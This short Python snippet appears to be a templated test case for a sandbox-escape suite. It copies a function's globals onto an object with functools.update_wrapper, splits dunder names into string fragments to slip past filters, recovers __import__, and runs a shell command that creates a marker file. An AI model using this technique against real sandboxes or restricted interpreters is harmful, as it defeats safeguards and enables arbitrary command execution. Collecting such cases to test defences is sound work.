# escape: update_wrapper copies any attribute by a chosen name (assigned=) onto an object of the code's own
# effect: marker
import functools
class Box:
    pass
def probe():
    pass
box = Box()
functools.update_wrapper(box, probe, assigned=("__globals__",), updated=())
g = getattr(box, "__glob" + "als__")
b = g["__builtins__"]
imp = b["__import__"] if isinstance(b, dict) else getattr(b, "__imp" + "ort__")
imp("os").system("touch {marker}")
return "done"
